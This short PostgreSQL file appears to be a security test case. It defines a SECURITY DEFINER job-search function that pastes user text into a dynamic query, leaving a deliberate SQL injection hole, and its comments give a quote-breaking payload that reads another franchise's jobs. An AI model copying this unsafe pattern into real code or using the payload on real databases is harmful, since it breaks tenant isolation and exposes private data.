-- Any franchise reads all jobs by a quote in the search box, because the function with its owner's rights
-- pastes the text into the statement.
-- about: search_jobs, jobs
-- as: hf_dustbrigade_app
-- exploit: SET dust.franchise = 'oak';
-- exploit: SELECT * FROM home.search_jobs('x'' OR ''a%'' LIKE ''a');
-- shows: Road-secret job
CREATE FUNCTION home.search_jobs(p_text text) RETURNS SETOF text
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = home, pg_temp AS $$
BEGIN
  RETURN QUERY EXECUTE format(
    'SELECT title FROM home.jobs WHERE franchise = %L AND deleted_at IS NULL AND title ILIKE ''%%%s%%''',
    home.me(), p_text);
END $$;
REVOKE ALL ON FUNCTION home.search_jobs(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION home.search_jobs(text) TO hf_dustbrigade_app;
